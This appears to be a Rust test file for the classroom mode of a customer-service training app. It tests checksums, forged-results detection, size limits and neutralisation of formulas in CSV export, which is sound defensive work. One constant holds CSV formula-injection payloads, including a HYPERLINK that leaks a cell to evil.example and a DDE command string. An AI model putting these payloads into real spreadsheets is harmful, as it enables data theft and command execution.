//! Classroom mode: packs, results with checksums, content checks against
//! forged files, same-named trainees, size limits, and the dashboard figures
//! and CSV (formula cells neutralised, parsed back).

use std::collections::BTreeMap;

use service_dojo::classroom::{
    csv, Class, ClassroomError, Input, Pack, Results, MAX_LINK_CHARS, MAX_PACK_BYTES,
    MAX_RESULTS_BYTES, MAX_RESULTS_CODE_CHARS,
};
use service_dojo::engine::Conversation;
use service_dojo::i18n::Lang;
use service_dojo::progress::{Mode, SessionRecord};
use service_dojo::scenario::{builtin, Quality};
use service_dojo::scorer::{Competency, Scorer};

fn pack() -> Pack {
    let ids: Vec<String> = builtin()
        .scenarios
        .iter()
        .take(2)
        .map(|s| s.id.clone())
        .collect();
    let pass = Competency::FOUR
        .iter()
        .map(|&c| (c, 60))
        .collect::<BTreeMap<_, _>>();
    Pack::new(
        "第一周:投诉与砍价",
        ids,
        Mode::Assessment,
        true,
        Some(60),
        pass,
    )
}

/// The sessions of a trainee who always picks options of one quality.
fn sessions(quality: Quality, pack: &Pack, seed: u64) -> Vec<SessionRecord> {
    pack.scenarios
        .iter()
        .enumerate()
        .map(|(i, id)| {
            let scenario = builtin().get(id).unwrap();
            let mut c = Conversation::start(scenario, seed + i as u64);
            while !c.over && c.exchanges.len() < 20 {
                let turn = c.turn(scenario).unwrap();
                let option = turn
                    .options
                    .iter()
                    .find(|o| o.quality == quality)
                    .unwrap()
                    .text
                    .get(Lang::Zh)
                    .to_string();
                c.respond(scenario, Scorer::builtin(), &option, None, false);
            }
            SessionRecord::from_conversation(
                scenario,
                &c,
                pack.mode,
                pack.beginner,
                seed as f64,
                seed as f64 + 60_000.0,
            )
            .unwrap()
        })
        .collect()
}

fn results(name: &str, quality: Quality, pack: &Pack) -> Results {
    Results::new(name, pack, sessions(quality, pack, 100), 1.0e12, 7)
}

#[test]
fn a_pack_travels_as_a_link_code_and_as_a_file() {
    let pack = pack();
    assert_eq!(Pack::parse(&pack.to_code(), builtin()).unwrap(), pack);
    assert_eq!(Pack::parse(&pack.to_json(), builtin()).unwrap(), pack);
    // A byte-order mark (Notepad adds one) does not break a pack file.
    assert_eq!(
        Pack::parse(&format!("\u{FEFF}{}", pack.to_json()), builtin()).unwrap(),
        pack
    );
    assert!(Pack::parse("not a pack", builtin()).is_err());
    let mut unknown = pack.clone();
    unknown.scenarios.push("no-such-scenario".into());
    let e = Pack::parse(&unknown.to_json(), builtin()).unwrap_err();
    assert_eq!(
        e,
        ClassroomError::UnknownScenarios(vec!["no-such-scenario".into()])
    );
    assert!(e.message().en.contains("no-such-scenario"));
    assert!(e.message().zh.contains("no-such-scenario"));
}

#[test]
fn a_pack_with_impossible_rules_is_refused() {
    let mut marks = pack();
    marks.pass.insert(Competency::Empathy, 250);
    let e = Pack::parse(&marks.to_json(), builtin()).unwrap_err();
    assert_eq!(
        e,
        ClassroomError::PassMarkOutOfRange {
            competency: Competency::Empathy,
            value: 250
        }
    );
    assert!(e.message().zh.contains("同理心") && e.message().en.contains("250"));
    let mut timer = pack();
    timer.reply_seconds = Some(0);
    assert!(matches!(
        Pack::parse(&timer.to_code(), builtin()),
        Err(ClassroomError::ReplySecondsOutOfRange { seconds: 0, .. })
    ));
    let mut nameless = pack();
    nameless.name = "  ".into();
    assert_eq!(
        Pack::parse(&nameless.to_json(), builtin()),
        Err(ClassroomError::NameMissing(Input::PackFile))
    );
    let mut empty = pack();
    empty.scenarios.clear();
    assert_eq!(
        Pack::parse(&empty.to_json(), builtin()),
        Err(ClassroomError::NoScenarios)
    );
    // Wrong types give the JSON pointer, never serde's English inside Chinese.
    let wrong = pack()
        .to_json()
        .replace("\"beginner\": true", "\"beginner\": \"yes\"");
    let e = Pack::parse(&wrong, builtin()).unwrap_err();
    assert_eq!(
        e,
        ClassroomError::WrongShape {
            what: Input::PackFile,
            path: "/beginner".into()
        }
    );
    assert!(e.message().zh.contains("/beginner"));
    let e = Pack::parse("{\"format\": ", builtin()).unwrap_err();
    assert!(
        matches!(e, ClassroomError::NotJson { line: 1, .. }),
        "{e:?}"
    );
}

#[test]
fn oversized_packs_and_links_get_a_message_with_the_limit() {
    let big_file = format!("{{\"name\": \"{}\"}}", "x".repeat(MAX_PACK_BYTES));
    let e = Pack::parse(&big_file, builtin()).unwrap_err();
    assert!(matches!(
        e,
        ClassroomError::TooLarge {
            what: Input::PackFile,
            limit: MAX_PACK_BYTES,
            ..
        }
    ));
    assert!(e.message().en.contains("800 KB"), "{}", e.message().en);
    assert!(e.message().zh.contains("800 KB"), "{}", e.message().zh);

    let long_code = "A".repeat(MAX_LINK_CHARS + 1);
    let e = Pack::parse(&long_code, builtin()).unwrap_err();
    assert!(
        e.message().en.contains("32,000 characters"),
        "{}",
        e.message().en
    );
    assert!(e.message().en.contains("pack file"));

    // A pack whose link would be too long: the trainer is told to share the file.
    let mut huge = pack();
    // Links are deflated: only text that does not compress makes one too long.
    huge.name = (0..20_000u32)
        .filter_map(|i| char::from_u32(0x4E00 + (i * 7919) % 20_000))
        .collect();
    let link = format!("https://example.org/pack#p={}", huge.to_code());
    let e = Pack::check_link(&link).unwrap_err();
    assert!(matches!(
        e,
        ClassroomError::LinkTooLong {
            limit: MAX_LINK_CHARS,
            ..
        }
    ));
    assert!(
        e.message().en.contains("share the file instead"),
        "{}",
        e.message().en
    );
    assert!(e.message().zh.contains("练习包文件"));
    assert!(e.message().en.contains("over the limit of 32,000"));
    assert!(e.message().zh.contains("超过 32,000 个字符的上限"));
    let ordinary = format!("https://example.org/pack#p={}", pack().to_code());
    assert_eq!(Pack::check_link(&ordinary), Ok(()));
}

#[test]
fn results_survive_file_and_code_and_detect_edits() {
    let pack = pack();
    let r = results("小张", Quality::Good, &pack);
    assert_eq!(Results::parse(&r.to_json()).unwrap(), r);
    assert_eq!(Results::parse(&r.to_code()).unwrap(), r);
    assert_eq!(
        Results::parse(&format!("\u{FEFF}{}\n", r.to_json())).unwrap(),
        r
    );
    assert_eq!(r.check_size(), Ok(()));
    let edited = r.to_json().replacen("小张", "小章", 1);
    assert_eq!(Results::parse(&edited), Err(ClassroomError::Checksum));
    let mut code = r.to_code();
    code.truncate(code.len() - 10);
    assert!(Results::parse(&code).is_err());
    assert_eq!(
        Results::parse("DOJO1:!!!"),
        Err(ClassroomError::DamagedCode(Input::ResultsCode))
    );
}

/// A forger who recomputes the checksum (here: `Results::new` on edited
/// sessions) is still caught by the content checks.
#[test]
fn forged_results_are_refused_with_the_problem_named() {
    let pack = pack();
    let honest = sessions(Quality::Good, &pack, 100);
    let forge = |edit: &dyn Fn(&mut Vec<SessionRecord>)| {
        let mut s = honest.clone();
        edit(&mut s);
        Results::parse(&Results::new("小张", &pack, s, 1.0e12, 1).to_json())
    };
    let first = pack.scenarios[0].clone();

    let e = forge(&|s| s[0].scores.empathy = 255).unwrap_err();
    assert_eq!(
        e,
        ClassroomError::ScoreOutOfRange {
            scenario: first.clone(),
            turn: None,
            value: 255
        }
    );
    assert!(e.message().en.contains("255") && e.message().en.contains("0–100"));
    assert!(e.message().zh.contains("255"));

    let e = forge(&|s| s[1].exchanges[0].assessment.overall = 101).unwrap_err();
    assert!(
        matches!(
            &e,
            ClassroomError::ScoreOutOfRange {
                turn: Some(_),
                value: 101,
                ..
            }
        ),
        "{e:?}"
    );
    let e = forge(&|s| s[0].exchanges[0].assessment.scores.integrity = 200).unwrap_err();
    assert!(matches!(
        e,
        ClassroomError::ScoreOutOfRange { value: 200, .. }
    ));

    let e = forge(&|s| s[0].exchanges[0].turn = "made-up-turn".into()).unwrap_err();
    assert_eq!(
        e,
        ClassroomError::UnknownTurn {
            scenario: first.clone(),
            turn: "made-up-turn".into()
        }
    );
    assert!(e.message().zh.contains("made-up-turn"));

    let outside = builtin()
        .scenarios
        .iter()
        .find(|s| !pack.scenarios.contains(&s.id))
        .unwrap()
        .id
        .clone();
    let e = forge(&|s| s[1].scenario = outside.clone()).unwrap_err();
    assert!(
        matches!(&e, ClassroomError::UnexpectedScenario { position: 2, found, .. } if *found == outside),
        "{e:?}"
    );

    let e = forge(&|s| s[0].ending = "jackpot".into()).unwrap_err();
    assert!(matches!(e, ClassroomError::UnknownEnding { .. }));

    let e = forge(&|s| {
        s.pop();
    })
    .unwrap_err();
    assert_eq!(
        e,
        ClassroomError::SessionCount {
            found: 1,
            expected: 2
        }
    );
    let e = forge(&|s| s.push(s[0].clone())).unwrap_err();
    assert_eq!(
        e,
        ClassroomError::SessionCount {
            found: 3,
            expected: 2
        }
    );

    let e = forge(&|s| {
        let one = s[0].exchanges[0].clone();
        // One over the limit (a larger forgery is refused earlier, by size).
        s[0].exchanges = vec![one; 201];
    })
    .unwrap_err();
    assert!(
        matches!(e, ClassroomError::TooManyExchanges { count: 201, .. }),
        "{e:?}"
    );

    // The pack inside the results is checked too.
    let mut strange = pack.clone();
    strange.scenarios[1] = "no-such-scenario".into();
    let mut s = honest.clone();
    s[1].scenario = "no-such-scenario".into();
    let e = Results::parse(&Results::new("小张", &strange, s, 1.0e12, 1).to_json()).unwrap_err();
    assert!(matches!(e, ClassroomError::UnknownScenarios(_)));

    // The dashboard names the file and the problem, in both languages.
    let mut class = Class::default();
    let mut s = honest.clone();
    s[0].scores.patience = 255;
    assert!(!class.add(
        "forged.json",
        &Results::new("小张", &pack, s, 1.0e12, 1).to_json()
    ));
    let message = class.rejected[0].message();
    assert!(
        message.en.starts_with("forged.json: a score of 255"),
        "{}",
        message.en
    );
    assert!(
        message.zh.starts_with("forged.json：分数 255"),
        "{}",
        message.zh
    );
    assert!(class.results.is_empty());
}

#[test]
fn oversized_results_are_refused_at_once_with_the_limit() {
    let huge_code = format!("DOJO1:{}", "A".repeat(10_000_000));
    // Refused by its size before any decoding (no timing asserted: the
    // error kind shows the limit was checked first).
    let e = Results::parse(&huge_code).unwrap_err();
    assert_eq!(
        e,
        ClassroomError::TooLarge {
            what: Input::ResultsCode,
            size: 10_000_000,
            limit: MAX_RESULTS_CODE_CHARS
        }
    );
    assert!(
        e.message().en.contains("2,700,000 characters"),
        "{}",
        e.message().en
    );
    assert!(e.message().en.contains("use the results file instead"));

    let huge_file = format!("{{\"trainee\": \"{}\"}}", "x".repeat(MAX_RESULTS_BYTES));
    let e = Results::parse(&huge_file).unwrap_err();
    assert!(
        e.message().en.contains("the limit is 2 MB"),
        "{}",
        e.message().en
    );
    assert!(e.message().zh.contains("上限是 2 MB"), "{}", e.message().zh);

    // A trainee who pasted enormous replies learns it before handing the file in.
    let pack = pack();
    let mut s = sessions(Quality::Good, &pack, 100);
    s[0].exchanges[0].reply = "好".repeat(MAX_RESULTS_BYTES / 3 + 1);
    let r = Results::new("小张", &pack, s, 1.0e12, 1);
    assert!(matches!(
        r.check_size(),
        Err(ClassroomError::TooLarge {
            what: Input::ResultsFile,
            ..
        })
    ));
    assert!(matches!(
        Results::parse(&r.to_json()),
        Err(ClassroomError::TooLarge { .. })
    ));
}

#[test]
fn the_dashboard_keeps_good_files_and_explains_the_rest() {
    let pack = pack();
    let good = results("小张", Quality::Good, &pack);
    let bad = results("小李", Quality::Bad, &pack);
    let mut other_pack = pack.clone();
    other_pack.name = "另一个练习包".into();
    let stranger = results("小王", Quality::Good, &other_pack);
    let mut class = Class::default();
    assert!(class.add("zhang.json", &good.to_json()));
    assert!(class.add("li.json", &bad.to_code()));
    assert!(!class.add("zhang-again.json", &good.to_json()));
    assert!(!class.add("wang.json", &stranger.to_json()));
    assert!(!class.add("broken.json", "{\"format\": \"service-dojo-results\""));
    assert_eq!(class.results.len(), 2);
    let li = class.results.iter().find(|r| r.trainee == "小李").unwrap();
    assert_eq!(class.file_of(li), Some("li.json"));
    let reasons: Vec<String> = class.rejected.iter().map(|r| r.message().en).collect();
    assert_eq!(reasons.len(), 3, "{reasons:?}");
    assert_eq!(
        reasons[0],
        "zhang-again.json: a duplicate of “zhang.json”, already imported"
    );
    assert!(reasons[1].starts_with("wang.json: belongs to another pack"));
    assert!(
        reasons[2].starts_with("broken.json: not a results file"),
        "{}",
        reasons[2]
    );
    assert!(class.rejected[0].reason().zh.contains("重复"));
    assert!(class.rejected[1].reason().zh.contains("另一个练习包"));

    let zhang = class.results.iter().find(|r| r.trainee == "小张").unwrap();
    let li = class.results.iter().find(|r| r.trainee == "小李").unwrap();
    assert!(zhang.average().get(Competency::Empathy) > li.average().get(Competency::Empathy));
    let spread = class.spread(Competency::Empathy).unwrap();
    assert!(spread.min < spread.max && spread.std_dev > 0.0);
    let frequent = class.frequent_findings(5);
    assert!(!frequent.is_empty());
    assert!(frequent[0].share > 0.0 && frequent[0].share <= 1.0);
    assert!(!frequent[0].replies.is_empty());
    assert!(!class.hardest_turns(3).is_empty());
}

#[test]
fn same_named_trainees_are_both_kept_and_shown_apart() {
    let pack = pack();
    // Two different trainees called 王芳 (different play-throughs and ids).
    let first = Results::new(
        "王芳",
        &pack,
        sessions(Quality::Good, &pack, 100),
        1.0e12,
        11,
    );
    let second = Results::new(
        "王芳",
        &pack,
        sessions(Quality::Bad, &pack, 200),
        1.0e12,
        22,
    );
    assert_ne!(first.id, second.id);
    assert_eq!(first.id.len(), 36, "uuid-like: {}", first.id);
    let mut class = Class::default();
    assert!(class.add("wangfang-a.json", &first.to_json()));
    assert!(class.add("wangfang-b.json", &second.to_code()));
    assert!(class.add("li.json", &results("李四", Quality::Good, &pack).to_json()));
    assert_eq!(class.results.len(), 3, "{:?}", class.rejected);
    let names: Vec<String> = class
        .results
        .iter()
        .map(|r| class.display_name(r))
        .collect();
    assert_eq!(names, ["李四", "王芳 (1)", "王芳 (2)"]);
    assert!(
        class.results[1].average().get(Competency::Empathy)
            > class.results[2].average().get(Competency::Empathy),
        "(1) is the first imported"
    );

    // True duplicates stay out: the same file, and the same play-through
    // handed out twice under two ids.
    assert!(!class.add("copy.json", &first.to_json()));
    let again = Results::new("王芳", &pack, first.sessions.clone(), 2.0e12, 99);
    assert_ne!(again.id, first.id);
    assert!(!class.add("again.json", &again.to_json()));
    for rejected in &class.rejected {
        assert_eq!(
            rejected.error,
            ClassroomError::Duplicate {
                of: "wangfang-a.json".into()
            }
        );
    }
    // Same id, different content (one of them was altered and resealed).
    let clash = Results::new(
        "王芳",
        &pack,
        sessions(Quality::Bad, &pack, 300),
        1.0e12,
        11,
    );
    assert_eq!(clash.id, first.id);
    assert!(!class.add("clash.json", &clash.to_json()));
    assert_eq!(
        class.rejected.last().unwrap().error,
        ClassroomError::SameId {
            of: "wangfang-a.json".into()
        }
    );
    assert_eq!(class.results.len(), 3);

    // The table, the findings and the CSV show them apart.
    let csv_text = class.to_csv();
    let rows = parse_csv(csv_text.trim_start_matches('\u{FEFF}'));
    let first_column: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    assert_eq!(first_column, ["李四", "王芳 (1)", "王芳 (2)"]);
    let who: Vec<String> = class
        .frequent_findings(50)
        .into_iter()
        .flat_map(|f| f.replies.into_iter().map(|(who, _)| who))
        .collect();
    assert!(who.iter().any(|w| w == "王芳 (2)"), "{who:?}");
    assert!(!who.iter().any(|w| w == "王芳"));
}

/// RFC 4180: quoted fields, doubled quotes, CRLF rows.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        if quoted {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => quoted = false,
                _ => field.push(c),
            }
        } else {
            match c {
                '"' if field.is_empty() => quoted = true,
                ',' => row.push(std::mem::take(&mut field)),
                '\r' if chars.peek() == Some(&'\n') => {
                    chars.next();
                    row.push(std::mem::take(&mut field));
                    rows.push(std::mem::take(&mut row));
                }
                _ => field.push(c),
            }
        }
    }
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push(row);
    }
    rows
}

#[test]
fn the_csv_opens_in_excel_and_parses_back() {
    let pack = pack();
    let mut class = Class::default();
    class.add("a.json", &results("张,三", Quality::Good, &pack).to_json());
    class.add("b.json", &results("李四", Quality::Bad, &pack).to_json());
    let csv = class.to_csv();
    assert!(
        csv.starts_with('\u{FEFF}'),
        "a byte-order mark so Excel reads UTF-8"
    );
    let lines: Vec<&str> = csv
        .trim_start_matches('\u{FEFF}')
        .split("\r\n")
        .filter(|l| !l.is_empty())
        .collect();
    assert_eq!(lines.len(), 3);
    assert!(lines[0].contains("empathy 同理心"));
    assert!(lines[1].starts_with("\"张,三\","), "{}", lines[1]);
    assert_eq!(lines[2].split(',').count(), 10);
}

const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我领奖\")",
    "=1+1",
    "+86 139 0000 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "  =HYPERLINK(\"http://evil.example\")",
    "＝HYPERLINK(\"http://evil.example\")",
];

#[test]
fn formula_like_trainee_names_are_neutralised_in_the_csv() {
    let pack = pack();
    let mut class = Class::default();
    for (i, name) in HOSTILE.iter().enumerate() {
        let r = Results::new(
            name,
            &pack,
            sessions(Quality::Good, &pack, 100 + i as u64 * 10),
            1.0e12,
            i as u64,
        );
        assert!(
            class.add(&format!("{i}.json"), &r.to_json()),
            "{:?}",
            class.rejected
        );
    }
    class.add("ok.json", &results("王芳", Quality::Good, &pack).to_json());
    let csv_text = class.to_csv();
    let rows = parse_csv(csv_text.trim_start_matches('\u{FEFF}'));
    assert_eq!(rows.len(), HOSTILE.len() + 2);
    let mut names: Vec<String> = Vec::new();
    for row in &rows {
        assert_eq!(row.len(), 10, "{row:?}");
        for cell in row {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝')),
                "a live formula cell: {cell:?}"
            );
        }
        names.push(row[0].clone());
    }
    for name in HOSTILE {
        let trimmed = name.trim();
        assert!(
            names.contains(&format!("'{trimmed}")),
            "{trimmed} is kept, with a leading quote: {names:?}"
        );
    }
    assert!(
        names.contains(&"王芳".to_string()),
        "ordinary names are untouched"
    );
    // Scores stay numbers.
    assert!(rows[1][1].parse::<u8>().is_ok());
}

#[test]
fn every_formula_trigger_is_neutralised_and_quoted() {
    for (input, expected) in [
        ("=1+1", "\"'=1+1\""),
        ("+1", "\"'+1\""),
        ("-1", "\"'-1\""),
        ("@A1", "\"'@A1\""),
        ("\t=1", "\"'\t=1\""),
        ("\r=1", "\"'\r=1\""),
        ("\0x", "\"'\0x\""),
        (" =1", "\"' =1\""),
        ("=\"a\",\"b\"", "\"'=\"\"a\"\",\"\"b\"\"\""),
        ("王芳", "王芳"),
        ("a=b", "a=b"),
        ("a,b", "\"a,b\""),
        ("", ""),
    ] {
        assert_eq!(csv::cell(input), expected, "{input:?}");
        let parsed = parse_csv(&csv::row(&[input.to_string(), "x".into()]));
        assert_eq!(parsed.len(), 1, "{input:?}");
        let back = &parsed[0][0];
        if csv::is_formula_like(input) {
            assert_eq!(back, &format!("'{input}"));
        } else {
            assert_eq!(back, input);
        }
    }
}

/// A typical finished pack (five scenarios, beginner options of mixed
/// quality): the deflated code is several times shorter than the plain one,
/// and both read back to the same results. Run with `--nocapture` for the figures.
#[test]
fn the_results_code_is_deflated_and_much_shorter() {
    let ids: Vec<String> = builtin()
        .scenarios
        .iter()
        .take(5)
        .map(|s| s.id.clone())
        .collect();
    let pack = Pack::new("五个场景", ids, Mode::Practice, true, None, BTreeMap::new());
    let mut all = sessions(Quality::Good, &pack, 3);
    all[1] = sessions(Quality::Bad, &pack, 4).swap_remove(1);
    let r = Results::new("王芳", &pack, all, 1.0e12, 9);
    let (json, plain, code) = (r.to_json(), r.to_plain_code(), r.to_code());
    println!(
        "results file {} bytes; plain code {} chars; deflated code {} chars ({:.1}x shorter)",
        json.len(),
        plain.len(),
        code.len(),
        plain.len() as f64 / code.len() as f64
    );
    assert!(code.starts_with("DOJO2:"));
    assert!(
        code.len() * 4 < plain.len(),
        "{} vs {}",
        code.len(),
        plain.len()
    );
    assert_eq!(Results::parse(&code).unwrap(), r);
    // Codes from the previous version (uncompressed) are still read.
    assert_eq!(Results::parse(&plain).unwrap(), r);
}

/// A small code that would inflate past the file limit is refused, saying the
/// limit, without inflating it all.
#[test]
fn a_deflate_bomb_code_is_refused_with_the_limit() {
    use base64::Engine;
    let bomb = service_dojo::classroom::deflate::deflate(&vec![b' '; 50_000_000]);
    let code = format!(
        "DOJO2:{}",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bomb)
    );
    assert!(code.len() < MAX_RESULTS_CODE_CHARS);
    let e = Results::parse(&code).unwrap_err();
    assert_eq!(
        e,
        ClassroomError::InflatesTooLarge {
            limit: MAX_RESULTS_BYTES
        }
    );
    assert!(e.message().en.contains("2 MB"), "{}", e.message().en);
    assert!(e.message().zh.contains("2 MB"), "{}", e.message().zh);
}

/// The verdict is part of the results: per competency against the pack's
/// marks, and overall; a file whose verdict does not match its scores is refused.
#[test]
fn trainees_see_whether_they_passed_and_the_file_says_so() {
    let pack = pack();
    let good = results("小张", Quality::Good, &pack);
    let bad = results("小李", Quality::Bad, &pack);
    let vg = good.verdict.clone().unwrap();
    let vb = bad.verdict.clone().unwrap();
    assert!(vg.passed, "{vg:?}");
    assert!(!vb.passed, "{vb:?}");
    for (c, m) in &vb.competencies {
        assert_eq!(m.mark, 60);
        assert_eq!(m.score, bad.average().get(*c));
        assert_eq!(m.passed, m.score >= 60);
    }
    assert!(good.to_json().contains("\"verdict\""));
    assert_eq!(Results::parse(&good.to_json()).unwrap().verdict, Some(vg));
    // A forger flips the verdict and recomputes the checksum.
    let mut forged = bad.clone();
    forged.verdict.as_mut().unwrap().passed = true;
    assert_eq!(
        Results::parse(&forged.to_json()),
        Err(ClassroomError::Checksum)
    );
    assert_eq!(
        Results::parse(&rechecksum(&forged)),
        Err(ClassroomError::VerdictMismatch)
    );
}

/// A finding that marks words outside its reply is forged (and would make
/// no sense to show): refused.
#[test]
fn a_finding_span_outside_the_reply_is_refused() {
    let pack = pack();
    let mut r = results("小张", Quality::Bad, &pack);
    let exchange = r.sessions[0]
        .exchanges
        .iter_mut()
        .find(|e| e.assessment.findings.iter().any(|f| f.span.is_some()))
        .unwrap();
    let finding = exchange
        .assessment
        .findings
        .iter_mut()
        .find(|f| f.span.is_some())
        .unwrap();
    finding.span = Some([5, 2]);
    assert!(matches!(
        Results::parse(&rechecksum(&r)),
        Err(ClassroomError::BadSpan { .. })
    ));
}

/// What a forger does: edit the file, then recompute its checksum (SHA-256
/// of the file without its checksum, the last field) as the README explains.
fn rechecksum(r: &Results) -> String {
    use sha2::Digest;
    let json = r.to_json();
    let at = json.rfind(",\"checksum\":").unwrap();
    let body = format!("{}}}", &json[..at]);
    let sum: String = sha2::Sha256::digest(body.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    format!("{},\"checksum\":\"{sum}\"}}", &json[..at])
}
